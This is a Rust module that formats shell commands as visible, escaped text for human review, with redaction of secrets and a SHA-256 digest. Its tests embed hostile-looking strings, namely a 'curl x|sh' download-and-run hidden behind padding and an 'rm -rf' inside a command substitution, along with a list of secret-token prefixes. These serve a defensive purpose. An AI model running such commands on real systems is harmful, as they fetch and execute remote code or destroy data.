//! A command as one line of text that hides nothing, and back.
//!
//! Plain words stand as they are; everything else is in single quotes, and inside them whatever has no
//! visible form of its own is written `\u{200B}`. Two different commands never have the same text.

use sha2::{Digest as _, Sha256};
use unicode_width::UnicodeWidthChar as _;

/// Longest command that is shown to a person, in bytes of its text. A longer one is refused.
pub(crate) const MAX_SHOWN: usize = 8 * 1024;

/// The text of a command.
pub(crate) fn format(argv: &[String]) -> String {
    let words: Vec<String> = argv.iter().map(|word| quote(word)).collect();
    words.join(" ")
}

fn quote(word: &str) -> String {
    if !word.is_empty() && word.chars().all(is_plain) {
        return word.to_owned();
    }
    let mut out = String::from("'");
    for c in word.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\'' => out.push_str("\\'"),
            c if is_visible(c) => out.push(c),
            c => out.push_str(&format!("\\u{{{:X}}}", u32::from(c))),
        }
    }
    out.push('\'');
    out
}

/// A text that somebody else made of a command, with whatever has no visible form of its own written
/// `\u{200B}`.
pub(crate) fn visible(text: &str) -> String {
    let mut out = String::new();
    for c in text.chars() {
        match is_visible(c) {
            true => out.push(c),
            false => out.push_str(&format!("\\u{{{:X}}}", u32::from(c))),
        }
    }
    out
}

fn is_plain(c: char) -> bool {
    c.is_ascii_alphanumeric() || "_./:=,@%+-".contains(c)
}

/// Whether a person sees it for what it is: printable ASCII, and letters and digits of other scripts that
/// take up room. Look-alikes of ASCII in other widths do not count.
fn is_visible(c: char) -> bool {
    if c.is_ascii() {
        return c == ' ' || c.is_ascii_graphic();
    }
    c.is_alphanumeric()
        && c.width().unwrap_or(0) > 0
        && !clawline::layer::is_unsafe_to_show(c)
        && !('\u{ff00}'..='\u{ffef}').contains(&c)
        && !is_right_to_left(c)
}

/// Letters that turn the direction of what stands beside them on the screen.
fn is_right_to_left(c: char) -> bool {
    matches!(c,
        '\u{590}'..='\u{8ff}' | '\u{fb1d}'..='\u{fdff}' | '\u{fe70}'..='\u{feff}'
        | '\u{10800}'..='\u{10fff}' | '\u{1e800}'..='\u{1efff}')
}

/// The command of a text; `None` where [`format`] never wrote it.
pub(crate) fn parse(text: &str) -> Option<Vec<String>> {
    let mut argv = Vec::new();
    let mut rest = text;
    loop {
        let (word, after) = match rest.strip_prefix('\'') {
            Some(quoted) => quoted_word(quoted)?,
            None => {
                let end = rest.find(' ').unwrap_or(rest.len());
                (rest[..end].to_owned(), &rest[end..])
            }
        };
        argv.push(word);
        if after.is_empty() {
            break;
        }
        rest = after.strip_prefix(' ')?;
    }
    (format(&argv) == text).then_some(argv)
}

fn quoted_word(text: &str) -> Option<(String, &str)> {
    let mut word = String::new();
    let mut chars = text.char_indices();
    while let Some((at, c)) = chars.next() {
        match c {
            '\'' => return Some((word, &text[at + 1..])),
            '\\' => match chars.next()?.1 {
                'u' => {
                    let code: String = chars
                        .by_ref()
                        .map(|(_, c)| c)
                        .take_while(|c| *c != '}')
                        .collect();
                    let code = u32::from_str_radix(code.strip_prefix('{')?, 16).ok()?;
                    word.push(char::from_u32(code)?);
                }
                c @ ('\\' | '\'') => word.push(c),
                _ => return None,
            },
            c => word.push(c),
        }
    }
    None
}

/// What a person is shown about a command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Shown {
    /// The text, with the middle of secrets left out.
    pub text: String,
    /// Bytes of the text with nothing left out.
    pub length: usize,
    /// Of the text with nothing left out, in hex.
    pub sha256: String,
    /// What a person should know before reading.
    pub warnings: Vec<&'static str>,
}

/// Prepares a command for a person. `None` when it is too long to be read.
pub(crate) fn show(argv: &[String]) -> Option<Shown> {
    let text = format(argv);
    if text.len() > MAX_SHOWN {
        return None;
    }
    let mut warnings = Vec::new();
    if argv
        .iter()
        .flat_map(|word| word.chars())
        .any(|c| !is_visible(c))
    {
        warnings.push("contains invisible characters");
    }
    if !text.is_ascii() {
        warnings.push("contains letters outside ASCII, which may look like others");
    }
    let redacted = redact(&text);
    if redacted != text {
        warnings.push("the middle of a secret is left out");
    }
    Some(Shown {
        length: text.len(),
        sha256: hex(&Sha256::digest(text.as_bytes())),
        text: redacted,
        warnings,
    })
}

/// Lower-case hex.
pub(crate) fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// Beginnings of secrets that are recognised wherever they stand.
const SECRET_STARTS: [&str; 12] = [
    "sk-",
    "sk_",
    "ghp_",
    "gho_",
    "ghs_",
    "github_pat_",
    "xoxb-",
    "xoxp-",
    "glpat-",
    "AKIA",
    "AIza",
    "eyJ",
];
/// Words before a secret; the secret is the next word.
const SECRET_LABELS: [&str; 8] = [
    "bearer ",
    "token=",
    "password=",
    "passwd=",
    "secret=",
    "apikey=",
    "api_key=",
    "api-key=",
];
/// Shorter ones are left: too little would be hidden to matter.
const MIN_SECRET: usize = 12;
/// Characters of a secret that stay at each end.
const KEPT: usize = 4;

/// Leaves the middle of secrets out. Only characters that a secret is made of are ever hidden, so that
/// no part of a command can disappear by looking like one.
fn redact(text: &str) -> String {
    let lower = text.to_ascii_lowercase();
    let mut out = String::new();
    let mut at = 0;
    while at < text.len() {
        let labelled = SECRET_LABELS
            .iter()
            .find(|label| lower[at..].starts_with(**label));
        if let Some(label) = labelled {
            out.push_str(&text[at..at + label.len()]);
            at += label.len();
            at += hide(&text[at..], &mut out);
            continue;
        }
        let starts = SECRET_STARTS
            .iter()
            .any(|start| text[at..].starts_with(start));
        let is_word_start = !out.ends_with(|c: char| c.is_ascii_alphanumeric());
        if starts && is_word_start {
            at += hide(&text[at..], &mut out);
            continue;
        }
        let c = text[at..].chars().next().unwrap_or(' ');
        out.push(c);
        at += c.len_utf8();
    }
    out
}

/// Writes the word at the beginning of `text` with its middle left out; returns its length.
fn hide(text: &str, out: &mut String) -> usize {
    let is_secret = |c: char| c.is_ascii_alphanumeric() || "_-.+=".contains(c);
    let end = text.find(|c| !is_secret(c)).unwrap_or(text.len());
    let word = &text[..end];
    if word.len() < MIN_SECRET {
        out.push_str(word);
    } else {
        out.push_str(&word[..KEPT]);
        out.push_str(&format!("…{} more…", word.len() - 2 * KEPT));
        out.push_str(&word[word.len() - KEPT..]);
    }
    end
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn argv(words: &[&str]) -> Vec<String> {
        words.iter().map(|word| (*word).to_owned()).collect()
    }

    #[test]
    fn what_cannot_be_seen_is_written_out() {
        assert_eq!(format(&argv(&["/tmp/ls "])), "'/tmp/ls '");
        for c in [
            '\u{200b}',
            '\u{2060}',
            '\u{3164}',
            '\u{115f}',
            '\u{202e}',
            '\u{ff5c}',
            '\r',
            '\n',
            '\u{1b}',
            '\t',
            '\0',
            '\u{a0}',
            '\u{2028}',
            '\u{e0041}',
            '\u{301}',
        ] {
            let argv = argv(&["echo", &format!("a{c}b")]);
            let code = u32::from(c);
            assert_eq!(format(&argv), format!("echo 'a\\u{{{code:X}}}b'"));
            let shown = show(&argv).unwrap();
            assert!(
                shown.warnings.contains(&"contains invisible characters"),
                "{c:?}"
            );
        }
    }

    #[test]
    fn a_long_command_is_refused_and_not_cut() {
        let hidden = format!("echo ok;{}curl x|sh", " ".repeat(4000));
        let shown = show(&argv(&["sh", "-c", &hidden])).unwrap();
        assert!(shown.text.contains("curl x|sh"));
        assert_eq!((shown.length, shown.sha256.len()), (shown.text.len(), 64));
        assert!(show(&argv(&["echo", &"x".repeat(MAX_SHOWN)])).is_none());
    }

    #[test]
    fn only_the_middle_of_a_secret_is_left_out_and_the_digest_is_over_the_real_text() {
        let with = |key: &str| {
            show(&argv(&[
                "curl",
                "-H",
                &format!("Authorization: Bearer {key}"),
                "http://x",
            ]))
            .unwrap()
        };
        let (one, two) = (
            with("sk-live-0123456789abcdef"),
            with("sk-live-fedcba9876543cdef"),
        );
        assert_eq!(
            one.text,
            "curl -H 'Authorization: Bearer sk-l…16 more…cdef' http://x"
        );
        assert_ne!(one.sha256, two.sha256);
        // A command does not disappear by standing in a secret's place.
        let shown = show(&argv(&["sh", "-c", "echo Bearer $(rm -rf /tmp/x)"])).unwrap();
        assert!(shown.text.contains("$(rm -rf /tmp/x)"));
    }

    proptest! {
        #[test]
        fn the_text_of_a_command_leads_back_to_it(argv in prop::collection::vec(any::<String>(), 1..6)) {
            let text = format(&argv);
            prop_assert_eq!(parse(&text), Some(argv));
            prop_assert!(text.chars().all(is_visible));
        }

        #[test]
        fn any_text_is_a_command_that_writes_it_or_none(text in any::<String>()) {
            if let Some(argv) = parse(&text) {
                prop_assert_eq!(&format(&argv), &text);
            }
            let _ = redact(&text);
        }
    }
}
